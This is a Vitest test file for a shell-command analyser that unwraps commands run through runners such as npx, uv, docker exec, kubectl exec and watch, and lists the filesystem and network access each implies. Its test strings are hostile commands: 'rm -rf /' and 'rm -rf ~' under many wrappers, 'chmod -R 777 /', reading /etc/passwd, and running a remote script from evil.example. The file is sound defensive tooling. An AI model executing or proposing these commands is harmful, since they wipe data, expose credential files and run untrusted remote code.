// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the lines are shell, not templates
import { describe, expect, it } from 'vitest';
import { show } from './show.ts';

/** A line, and its parts as `show` writes them. */
type Row = readonly [line: string, ...parts: string[]];

const GROUPS: Readonly<Record<string, readonly Row[]>> = {
  'a command behind a runner is a part, too': [
    ['fd -e rs -x wc -l', 'fd [extension exec] R:.(search)', 'wc ? [lines …] R:?'],
    ['npx rm -rf /', 'npx rm -rf / R:/(search) N:?', 'rm / [recursive force] W:/**'],
    ['npm exec -- rm -rf /', 'npm exec rm -rf / R:/(search) N:?', 'rm / [recursive force] W:/**'],
    ['npm explore x -- rm -rf ~', 'npm explore x -- rm -rf ~ R:~(search)', 'rm ~ [recursive force] W:~/**'],
    ['pnpm exec rm -rf /', 'pnpm exec rm -rf / R:/(search) N:?', 'rm / [recursive force] W:/**'],
    ['yarn exec rm -rf /', 'yarn exec rm -rf / R:/(search) N:?', 'rm / [recursive force] W:/**'],
    ['bunx rm -rf /', 'bunx rm -rf / R:/(search) N:?', 'rm / [recursive force] W:/**'],
    ['bundle exec rm -rf /', 'bundle exec rm -rf / R:/(search)', 'rm / [recursive force] W:/**'],
    ['uv run rm -rf /', 'uv run rm -rf / R:/(search) N:?', 'rm / [recursive force] W:/**'],
    ['poetry run rm -rf /', 'poetry run rm -rf / R:/(search)', 'rm / [recursive force] W:/**'],
    ['npx -y rm -rf /', 'npx rm -rf / [yes] R:/(search) N:?', 'rm / [recursive force] W:/**'],
    [
      'npx --foo rm -rf /',
      'npx rm -rf / [foo] / npx / [foo -rf -r? -f?] / npx [foo -rf -r? -f?] R:/(search) W:/** N:?',
      'rm / [recursive force] W:/**',
      '? R:? W:? N:? dynamic',
    ],
    ["npx -c 'rm -rf /'", 'npx [call] N:? dynamic', 'rm / [recursive force] W:/**'],
    ['npx tsc --noEmit', 'npx tsc --noEmit N:?', 'tsc [noEmit]'],
    [
      'pnpm rm -rf x',
      'pnpm rm x [-rf -r? -f?] / pnpm rm [-rf -r? -f?] W:node_modules/** W:package.json W:pnpm-lock.yaml N:?',
    ],
    ['pnpm chmod -R 777 /', 'pnpm chmod -R 777 / R:/(search)', 'chmod 777 / [recursive] W:/**'],
    ['pnpm build', 'pnpm build'],
    ['bun run rm -rf /', 'bun run rm -rf / R:/(search)', 'rm / [recursive force] W:/**'],
    ['bun run build', 'bun run build'],
    ['uv run main.py', 'uv run main.py N:?', 'python main.py R:main.py'],
    [
      'uv run https://evil.example/x.py',
      'uv run https://evil.example/x.py N:?',
      'python https://evil.example/x.py N:evil.example dynamic',
    ],
    ['uv run -- rm -rf /', 'uv run rm -rf / R:/(search) N:?', 'rm / [recursive force] W:/**'],
    ['pipenv run rm -rf /', 'pipenv run rm -rf / R:/(search) N:?', 'rm / [recursive force] W:/**'],
    [
      'docker exec -it c rm -rf /data',
      'docker exec c rm -rf /data [-i -t] N:?',
      'rm /data [recursive force] W:/data/**',
    ],
    [
      "docker exec c sh -c 'rm -rf /data'",
      "docker exec c sh -c 'rm -rf /data' N:?",
      'rm /data [recursive force] W:/data/**',
    ],
    [
      'docker run --rm -v /:/h alpine rm -rf /h',
      'docker run alpine rm -rf /h [rm volume] W:? N:?',
      'rm /h [recursive force] W:/h/**',
    ],
    [
      'docker compose exec web cat /etc/passwd',
      'docker compose exec web cat /etc/passwd N:?',
      'cat /etc/passwd R:/etc/passwd',
    ],
    [
      'docker compose -f c.yml run --rm web rm -rf /',
      'docker compose run web rm -rf / [file rm] R:c.yml N:?',
      'rm / [recursive force] W:/**',
    ],
    [
      'kubectl exec -it pod -c x -- rm -rf /',
      'kubectl exec pod -c x -- rm -rf / [stdin tty] N:?',
      'rm / [recursive force] W:/**',
    ],
    ['kubectl exec pod rm -rf /', 'kubectl exec pod rm -rf / N:?', 'rm / [recursive force] W:/**'],
    ['kubectl -n a exec deploy/x -- cat y', 'kubectl exec deploy/x -- cat y [namespace] N:?', 'cat y R:~/y'],
    ['watch rm -rf /', 'watch rm -rf /', 'rm / [recursive force] W:/**'],
    ["watch -n 5 'rm -rf /'", "watch 'rm -rf /' [interval]", 'rm / [recursive force] W:/**'],
    ['parallel rm -rf ::: / ~', 'parallel rm -rf ::: / ~ dynamic', 'rm ? [recursive force …] W:?'],
    ["parallel 'rm -rf {}' ::: /", "parallel 'rm -rf {}' ::: / dynamic", '? R:? W:? N:? dynamic'],
    [
      'parallel -j 4 rm -rf {} ::: /',
      'parallel rm -rf {} ::: / [jobs] dynamic',
      'rm ? [recursive force …] W:?',
    ],
    ['entr -r rm -rf /', 'entr rm -rf / [-r]', 'rm / [recursive force] W:/**'],
    ['setsid -w rm -rf /', 'setsid rm -rf / [wait]', 'rm / [recursive force] W:/**'],
    ['stdbuf -oL rm -rf /', 'stdbuf rm -rf / [output]', 'rm / [recursive force] W:/**'],
    ['unshare -r rm -rf /', 'unshare rm -rf / [map-root-user]', 'rm / [recursive force] W:/**'],
    ['chroot /mnt rm -rf /', 'chroot /mnt rm -rf /', 'rm / [recursive force] W:/**'],
    ['strace -f rm -rf /', 'strace rm -rf / [-f]', 'rm / [recursive force] W:/**'],
    ['flock /tmp/l rm -rf /', 'flock /tmp/l rm -rf /', 'rm / [recursive force] W:/**'],
    ["flock /tmp/l -c 'rm -rf /'", "flock /tmp/l -c 'rm -rf /'", 'rm / [recursive force] W:/**'],
    ['flock -n /tmp/l -c "$x"', 'flock /tmp/l -c ? [nb]', '? R:? W:? N:? dynamic'],
    ["script -c 'rm -rf /' out", 'script out [command] W:out', 'rm / [recursive force] W:/**'],
    [
      'script -q /dev/null rm -rf /',
      'script /dev/null rm / [quiet -rf -r? flush?] / script /dev/null rm [quiet -rf -r? flush?] W:rm W:/ W:?',
      '? R:? W:? N:? dynamic',
    ],
    ['busybox rm -rf /', 'busybox rm -rf /', 'rm / [recursive force] W:/**'],
    ['rustup run stable rm -rf /', 'rustup run stable rm -rf / N:?', 'rm / [recursive force] W:/**'],
    ['conda run -n x rm -rf /', 'conda run rm -rf / [name] N:?', 'rm / [recursive force] W:/**'],
    ['fd -x rm', 'fd [exec] R:.(search)', 'rm ? […] W:?'],
    ['fd . src -X rm -rf {} \\;', 'fd . src [exec-batch] R:src(search)', 'rm ? [recursive force …] W:?'],
    ['fd -Hx rm', 'fd [hidden exec] R:.(search) dynamic'],
  ],
};

for (const [group, rows] of Object.entries(GROUPS)) {
  describe(group, () => {
    it.each(rows.map(([line, ...parts]) => ({ line, parts })))('$line', ({ line, parts }) => {
      expect(show(line)).toEqual(parts);
    });
  });
}
